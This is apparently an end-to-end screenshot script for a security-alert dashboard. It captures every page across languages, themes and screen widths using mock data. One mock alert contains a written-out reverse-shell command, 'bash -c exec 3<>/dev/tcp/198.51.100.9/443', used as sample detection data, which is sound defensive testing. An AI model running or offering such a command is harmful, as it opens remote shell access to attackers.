// Pictures of every page over the mock's data: light and dark, both languages, wide and narrow.
//
//   YINGLONG_SCREENSHOTS=folder node e2e/screens.mjs [name of a page ...]

import { makeServer } from "../mock/server.mjs";
import { launch, picture, signIn, watch } from "./browser.mjs";

const only = process.argv.slice(2);
const server = makeServer();
await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
const url = `http://127.0.0.1:${server.address().port}`;
const mock = (body) => fetch(`${url}/mock`, { method: "POST", body: JSON.stringify(body) });
const browser = await launch(url);
const faults = [];

const VIEWS = [
  { name: "en-light", locale: "en-GB", colorScheme: "light", viewport: { width: 1440, height: 900 } },
  { name: "zh-dark", locale: "zh-CN", colorScheme: "dark", viewport: { width: 1440, height: 900 } },
  { name: "zh-light-390", locale: "zh-CN", colorScheme: "light", viewport: { width: 390, height: 844 } },
  { name: "en-dark-390", locale: "en-GB", colorScheme: "dark", viewport: { width: 390, height: 844 } },
];

const settle = async (page) => {
  await page.waitForLoadState("domcontentloaded");
  await page.locator(".y-state .mantine-Loader-root").first().waitFor({ state: "detached" });
  await page.waitForTimeout(250);
};

for (const { name, ...options } of VIEWS) {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  faults.push(watch(page, url));
  const shoot = async (title, visit) => {
    if (only.length > 0 && !only.includes(title)) return;
    await visit();
    await settle(page);
    await picture(page, `${title}-${name}`);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    if (wide > 0) faults.push([`${title}-${name} is ${wide} px too wide`]);
  };
  const go = (path) => () => page.goto(url + path);
  const first = async (path) => {
    const list = await page.evaluate((p) => fetch(`/api/v1${p}`).then((r) => r.json()), path);
    return list.alerts ?? list.hosts;
  };

  await mock({ reset: true });
  await mock({ setup: true });
  await shoot("setup", async () => {
    await page.goto(url);
    await page.locator("input").nth(2).fill("purple envelope canyon");
  });
  await mock({ reset: true });
  await shoot("sign-in", async () => {
    await page.goto(url);
    await page.locator("input").first().fill("admin");
    await page.locator("input").nth(1).fill("wrong");
    await page.keyboard.press("Enter");
    await page.getByRole("alert").waitFor();
  });
  await signIn(page, url, "admin", "correct horse battery");
  await shoot("overview", go("/"));
  await shoot("alerts", go("/alerts"));
  const alerts = await first("/alerts?status=0&type=process");
  await shoot("alert", go(`/alerts/${alerts[0].id}`));
  await shoot("alerts-selected", async () => {
    await page.goto(`${url}/alerts?status=all`);
    await page.getByRole("checkbox").nth(1).check();
    await page.getByRole("checkbox").nth(3).check();
    await mock({ alert: "bash -c exec 3<>/dev/tcp/198.51.100.9/443" });
  });
  await shoot("alerts-undo", async () => {
    await page.goto(`${url}/alerts`);
    await page.getByRole("row").nth(2).waitFor();
    await page.keyboard.press("j");
    await page.keyboard.press("j");
    await page.keyboard.press("h");
    await page.locator(".y-undo").waitFor();
  });
  await shoot("hosts", go("/hosts"));
  const hosts = await first("/hosts");
  const legacy = hosts.find((host) => host.hostname === "legacy-crm");
  await shoot("host", go(`/hosts/${legacy.agent_id}`));
  await shoot("host-below", async () => {
    await page.goto(`${url}/hosts/${legacy.agent_id}`);
    await settle(page);
    await page.mouse.wheel(0, 900);
  });
  await shoot("add-host", async () => {
    await page.goto(`${url}/hosts?add=1`);
    await page.getByRole("button", { name: /create token|创建令牌/i }).click();
    await page.locator(".y-command").waitFor();
  });
  await shoot("search-start", go("/search"));
  await shoot("search", async () => {
    await page.goto(`${url}/search?q=${encodeURIComponent("type:process | name:curl")}`);
    await page.locator(".y-results .y-expander").first().click();
  });
  await shoot("search-all", go("/search?q=&range=all"));
  await shoot("search-suggest", async () => {
    await page.goto(`${url}/search`);
    await page.locator(".y-query-input input").fill("type:process | name:");
    await page.getByRole("listbox").getByRole("option").first().waitFor();
  });
  await shoot("search-error", go("/search?q=type:process%20|%20name"));
  await shoot("ledger", go("/ledger"));
  await mock({ learn: true, empty: true });
  await shoot("empty-overview", go("/"));
  await shoot("empty-alerts", go("/alerts"));
  await shoot("empty-hosts", go("/hosts"));
  await mock({ broken: true });
  await shoot("broken", go("/hosts"));
  await context.close();
}

await browser.close();
server.close();
server.closeAllConnections();
const all = faults.flat();
for (const fault of new Set(all)) console.error(fault);
process.exitCode = all.length > 0 ? 1 : 0;
